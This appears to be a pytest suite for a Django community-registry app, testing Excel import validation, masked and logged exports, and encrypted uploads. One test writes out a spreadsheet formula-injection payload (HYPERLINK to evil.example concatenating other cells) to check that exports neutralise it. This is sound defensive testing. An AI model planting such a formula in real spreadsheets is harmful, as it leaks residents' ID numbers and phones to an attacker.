import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from linli.accounts.roles import Role
from linli.core import idcard
from linli.core.errors import DomainError
from linli.core.models import SensitiveAccess
from linli.regions import importexport
from linli.regions.models import Household, ImportBatch, Resident, Room

pytestmark = pytest.mark.django_db

HOUSES = ["网格编码", "小区", "楼栋", "单元", "房号", "楼层", "专有面积", "用途", "户号"]
PEOPLE = ["姓名", "身份证号", "手机号", "网格编码", "小区", "楼栋", "单元", "房号", "户号", "与户主关系", "迁入日期", "标签"]


def xlsx(header, rows):
    wb = Workbook()
    ws = wb.active
    ws.append(header)
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


@pytest.fixture
def worker(tree, make_user):
    return make_user(Role.COMMUNITY_ADMIN, tree.liede_sq)


def good_id(n, year=1960):
    import datetime as dt

    return idcard.make("440106", dt.date(year, 1, 1) + dt.timedelta(days=n), 11 + 2 * n)


def import_houses(worker, grid_code="440106001001001"):
    data = xlsx(HOUSES, [
        [grid_code, "翠苑", "1栋", "1单元", "101", 1, 88.5, "住宅", "HH-101"],
        [grid_code, "翠苑", "1栋", "1单元", "102", 1, "76.25", "住宅", "HH-102"],
        [grid_code, "翠苑", "2栋", "1单元", 201, 2, 120, "商业", ""],
    ])
    batch = importexport.validate_upload(actor=worker, kind="houses", filename="houses.xlsx", data=data)
    assert batch.error_rows == 0, batch.errors
    return importexport.confirm_import(actor=worker, batch=batch)


def test_houses_then_residents(tree, worker):
    batch = import_houses(worker)
    assert batch.imported_rows == 3 and Room.objects.count() == 3
    assert Room.objects.get(number="201").use == "commercial"
    assert str(Room.objects.get(number="102").exclusive_area) == "76.25"
    assert Household.objects.filter(number__in=["HH-101", "HH-102"]).count() == 2
    data = xlsx(PEOPLE, [
        ["张三", good_id(1), "13812345678", "440106001001001", "翠苑", "1栋", "1单元", "101", "HH-101", "户主", "2010-05-01", "党员"],
        ["李梅", good_id(2), "", "440106001001001", "翠苑", "1栋", "1单元", "101", "HH-101", "配偶", "", "残疾人、老年人"],
    ])
    batch = importexport.validate_upload(actor=worker, kind="residents", filename="people.xlsx", data=data)
    assert (batch.total_rows, batch.error_rows) == (2, 0)
    assert not Resident.objects.exists()  # validation writes nothing
    importexport.confirm_import(actor=worker, batch=batch)
    zs = Resident.objects.get(name="张三")
    assert zs.household.number == "HH-101" and zs.relation == "head" and zs.tags == ["party_member"]
    assert zs.household.representative == zs
    lm = Resident.objects.get(name="李梅")
    assert lm.tags == ["elder"] and lm.sensitive_tag_list == ["disabled"]
    with pytest.raises(DomainError) as exc:
        importexport.confirm_import(actor=worker, batch=batch)
    assert exc.value.code == "import_closed"


def test_bad_rows_are_reported_in_chinese_and_nothing_is_written(tree, worker, registry):
    import_houses(worker)
    existing = registry.resident(household=Household.objects.get(number="HH-102"), name="已登记")
    bad_check = good_id(3)[:-1] + ("0" if good_id(3)[-1] != "0" else "1")
    data = xlsx(PEOPLE, [
        ["张三", good_id(1), "13812345678", "440106001001001", "翠苑", "1栋", "1单元", "101", "", "户主", "", ""],  # ok
        ["错号", bad_check, "", "440106001001001", "翠苑", "1栋", "1单元", "101", "", "", "", ""],
        ["无楼", good_id(4), "", "440106001001001", "翠苑", "9栋", "1单元", "101", "", "", "", ""],
        ["重复", good_id(1), "", "440106001001001", "翠苑", "1栋", "1单元", "101", "", "", "", ""],
        ["已有", existing.id_number, "", "440106001001001", "翠苑", "1栋", "1单元", "102", "", "", "", ""],
        ["坏电话", good_id(5), "12345", "440106001001001", "翠苑", "1栋", "1单元", "101", "", "", "", ""],
        ["外区", good_id(6), "", "440103001001001", "翠苑", "1栋", "1单元", "101", "", "", "", ""],
        ["", good_id(7), "", "440106001001001", "翠苑", "1栋", "1单元", "101", "", "表哥", "2020/13/01", "富人"],
    ])
    batch = importexport.validate_upload(actor=worker, kind="residents", filename="people.xlsx", data=data)
    assert (batch.total_rows, batch.valid_rows, batch.error_rows) == (8, 1, 7)
    msgs = {(e["row"], e["message"]) for e in batch.errors}
    assert (3, "身份证号校验位错误") in msgs
    assert (4, "未找到楼栋：翠苑9栋(请先导入房屋)") in msgs
    assert (5, "与第2行身份证号重复") in msgs
    assert (6, "该身份证号已登记") in msgs
    assert (7, "手机号格式不正确(应为11位，以1开头)") in msgs
    assert (8, "网格编码 440103001001001 不存在或不在您的管辖范围内") in msgs
    row9 = {m for r, m in msgs if r == 9}
    assert {"姓名不能为空", "与户主关系无效：表哥", "迁入日期格式应为 YYYY-MM-DD", "未知标签：富人"} <= row9
    before = Resident.objects.count()
    with pytest.raises(DomainError) as exc:
        importexport.confirm_import(actor=worker, batch=batch)
    assert exc.value.code == "import_has_errors"
    assert Resident.objects.count() == before
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.VALIDATED
    importexport.confirm_import(actor=worker, batch=batch, valid_only=True)
    assert Resident.objects.count() == before + 1
    assert Resident.objects.filter(name="张三").exists()


def test_unreadable_and_incomplete_files(tree, worker):
    with pytest.raises(DomainError) as exc:
        importexport.validate_upload(actor=worker, kind="residents", filename="x.xlsx", data=b"not a workbook")
    assert exc.value.code == "bad_file"
    with pytest.raises(DomainError) as exc:
        importexport.validate_upload(actor=worker, kind="residents", filename="x.csv", data=b"a,b")
    assert exc.value.code == "bad_file"
    with pytest.raises(DomainError) as exc:
        importexport.validate_upload(actor=worker, kind="residents", filename="x.xlsx", data=xlsx(["姓名"], [["张三"]]))
    assert exc.value.code == "missing_columns" and "身份证号" in str(exc.value.message)
    assert not ImportBatch.objects.exists()


def test_failure_midway_leaves_nothing(tree, worker, monkeypatch):
    import_houses(worker)
    data = xlsx(PEOPLE, [
        ["张三", good_id(1), "", "440106001001001", "翠苑", "1栋", "1单元", "101", "", "户主", "", ""],
        ["李四", good_id(2), "", "440106001001001", "翠苑", "1栋", "1单元", "102", "", "户主", "", ""],
    ])
    batch = importexport.validate_upload(actor=worker, kind="residents", filename="p.xlsx", data=data)
    real = importexport.services.create_resident
    calls = {"n": 0}

    def flaky(**kw):
        calls["n"] += 1
        if calls["n"] == 2:
            raise RuntimeError("disk full")
        return real(**kw)

    monkeypatch.setattr(importexport.services, "create_resident", flaky)
    with pytest.raises(RuntimeError):
        importexport.confirm_import(actor=worker, batch=batch)
    assert not Resident.objects.exists()
    batch.refresh_from_db()
    assert batch.status == "validated"


def test_page_flow_upload_report_confirm(client, tree, worker):
    import_houses(worker)
    client.force_login(worker)
    data = xlsx(PEOPLE, [
        ["张三", good_id(1), "", "440106001001001", "翠苑", "1栋", "1单元", "101", "", "户主", "", ""],
        ["坏号", "123", "", "440106001001001", "翠苑", "1栋", "1单元", "101", "", "", "", ""],
    ])
    resp = client.post("/registry/import/", {"kind": "residents", "file": SimpleUploadedFile("p.xlsx", data)})
    assert resp.status_code == 302
    report = client.get(resp.url).content.decode()
    assert "第3行" in report and "身份证号应为18位" in report
    resp = client.post(resp.url, {"valid_only": "1"})
    assert resp.status_code == 302
    assert Resident.objects.filter(name="张三").exists() and not Resident.objects.filter(name="坏号").exists()
    resp = client.post("/registry/import/", {"kind": "residents", "file": SimpleUploadedFile("p.txt", b"hello")})
    assert resp.status_code == 400 and "xlsx" in resp.content.decode()


def test_export_masked_by_default_unmasked_needs_reason_and_is_logged(client, tree, worker, registry):
    r = registry.resident(household=registry.household(tree.g_liede1), name="张三", phone="13812345678")
    client.force_login(worker)
    resp = client.post("/registry/export/", {"region": tree.liede_sq.code})
    rows = list(load_workbook(io.BytesIO(resp.content)).active.iter_rows(values_only=True))
    assert rows[0][:3] == ("姓名", "身份证号", "手机号")
    assert rows[1][0] == "张三" and rows[1][1] == r.masked_id and rows[1][2] == "138****5678"
    assert not SensitiveAccess.objects.exists()
    resp = client.post("/registry/export/", {"region": tree.liede_sq.code, "unmasked": "1"})
    assert resp.status_code == 400 and "事由" in resp.content.decode()
    resp = client.post("/registry/export/", {"region": tree.liede_sq.code, "unmasked": "1", "purpose": "核对信息",
                                           "reason": "报送民政局年度核对"})
    rows = list(load_workbook(io.BytesIO(resp.content)).active.iter_rows(values_only=True))
    assert rows[1][1] == r.id_number and rows[1][2] == "13812345678"
    log = SensitiveAccess.objects.get()
    assert log.kind == "export" and log.reason == "核对信息：报送民政局年度核对" and log.actor == worker
    street = registry.actor.__class__.objects.create_user("street1", "pw-secret-123")
    from linli.accounts.models import RoleAssignment

    RoleAssignment.objects.create(user=street, role=Role.STREET_ADMIN, region=tree.liede, region_path=tree.liede.path)
    client.force_login(street)
    resp = client.post("/registry/export/", {"region": tree.liede.code, "unmasked": "1", "purpose": "核对信息", "reason": "报送民政局核对"})
    assert resp.status_code == 400 and "无权" in resp.content.decode()
    assert SensitiveAccess.objects.count() == 1
    # the exported file imports back (round trip of the layout)
    resp = client.post("/registry/export/", {"region": tree.liede_sq.code})
    header = next(load_workbook(io.BytesIO(resp.content)).active.iter_rows(values_only=True))
    assert list(header) == PEOPLE


def test_uploaded_file_is_private_encrypted_and_removed_after_import(client, tree, worker, settings,
                                                                     django_capture_on_commit_callbacks):
    from pathlib import Path

    data = xlsx(HOUSES, [["440106001001001", "翠苑", "1栋", "1单元", "101", 1, 88.5, "住宅", "HH-1"]])
    batch = importexport.validate_upload(actor=worker, kind="houses", filename="h.xlsx", data=data)
    stored = Path(settings.LINLI_PRIVATE_ROOT) / batch.file.name
    assert stored.exists() and not str(stored).startswith(str(settings.MEDIA_ROOT))
    assert b"440106001001001" not in stored.read_bytes() and stored.read_bytes() != data
    with pytest.raises(ValueError):
        batch.file.url
    with django_capture_on_commit_callbacks(execute=True):
        importexport.confirm_import(actor=worker, batch=batch)
    assert not stored.exists()
    batch.refresh_from_db()
    assert not batch.file


def test_confirm_keeps_the_fresh_report_when_refusing(tree, worker, registry):
    import_houses(worker)
    data = xlsx(PEOPLE, [["张三", good_id(1), "", "440106001001001", "翠苑", "1栋", "1单元", "101", "", "户主", "", ""]])
    batch = importexport.validate_upload(actor=worker, kind="residents", filename="p.xlsx", data=data)
    assert batch.error_rows == 0
    registry.resident(household=Household.objects.get(number="HH-101"), name="抢先", id_number=good_id(1))
    with pytest.raises(DomainError):
        importexport.confirm_import(actor=worker, batch=batch)
    batch.refresh_from_db()
    assert batch.error_rows == 1 and batch.errors[0]["message"] == "该身份证号已登记"


def test_household_number_in_another_room_is_reported(tree, worker):
    import_houses(worker)
    data = xlsx(PEOPLE, [["张三", good_id(1), "", "440106001001001", "翠苑", "1栋", "1单元", "102", "HH-101", "户主", "", ""],
                         ["李四", good_id(2), "", "440106001001001", "翠苑", "1栋", "1单元", "101", "HH-NEW", "户主", "", ""]])
    batch = importexport.validate_upload(actor=worker, kind="residents", filename="p.xlsx", data=data)
    assert [(e["row"], e["message"]) for e in batch.errors] == [(2, "户号 HH-101 已属于其他房屋")]
    importexport.confirm_import(actor=worker, batch=batch, valid_only=True)
    assert Resident.objects.get(name="李四").household.number == "HH-NEW"


def test_export_is_capped_with_a_clear_message(client, tree, worker, registry, settings):
    settings.LINLI_EXPORT_MAX_ROWS = 2
    hh = registry.household(tree.g_liede1)
    for name in ("甲一", "乙二", "丙三"):
        registry.resident(household=hh, name=name)
    client.force_login(worker)
    resp = client.post("/registry/export/", {"region": tree.liede_sq.code})
    assert resp.status_code == 400 and "一次最多导出 2 人" in resp.content.decode()
    resp = client.get(f"/api/v1/registry/export.xlsx?region={tree.liede_sq.code}")
    assert resp.status_code == 400 and resp.json()["error"]["code"] == "export_too_large"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_export_writes_no_formula_whatever_the_names(client, tree, worker, registry, prefix):
    """A resident, compound, building or household named like a formula exports as plain text,
    masked or not (an unmasked export must not send other rows' ID numbers anywhere)."""
    evil = prefix + 'HYPERLINK("http://evil.example/?"&B2&C2,"点此核对")'
    hh = registry.household(tree.g_liede1, compound=prefix + "苑", building=prefix + "1栋", number=prefix + "101")
    registry.resident(household=hh, name=evil, phone="13812345678")
    client.force_login(worker)
    for form in ({"region": tree.liede_sq.code},
                 {"region": tree.liede_sq.code, "unmasked": "1", "purpose": "核对信息", "reason": "报送民政局年度核对"}):
        resp = client.post("/registry/export/", form)
        assert resp.status_code == 200
        rows = list(load_workbook(io.BytesIO(resp.content)).active.iter_rows())
        data = [c for c in rows[1] if c.value not in (None, "")]
        assert data, "the row was exported"
        for cell in data:
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert not str(cell.value).startswith(("=", "+", "-", "@")), (cell.coordinate, cell.value)
        assert rows[1][0].value == "'" + evil


def test_unmasked_export_and_reveal_refuse_a_placeholder_reason(client, tree, worker, registry):
    r = registry.resident(household=registry.household(tree.g_liede1), name="张三", phone="13812345678")
    client.force_login(worker)
    for purpose, reason in (("核对信息", "00"), ("", "报送民政局年度核对"), ("核对信息", "1111"), ("其他", "。。。。")):
        resp = client.post("/registry/export/", {"region": tree.liede_sq.code, "unmasked": "1", "purpose": purpose, "reason": reason})
        assert resp.status_code == 400
        resp = client.post("/api/v1/registry/export.xlsx", {"region": tree.liede_sq.code, "unmasked": True, "purpose": purpose,
                                                            "reason": reason}, content_type="application/json")
        assert resp.status_code == 400 and resp.json()["error"]["code"] == "reason_required"
        resp = client.post(f"/api/v1/registry/residents/{r.pk}/reveal", {"purpose": purpose, "reason": reason},
                           content_type="application/json")
        assert resp.status_code == 400 and resp.json()["error"]["code"] == "reason_required"
        resp = client.post(f"/registry/residents/{r.pk}/reveal/", {"purpose": purpose, "reason": reason})
        assert r.id_number not in resp.content.decode()
    assert not SensitiveAccess.objects.exists()
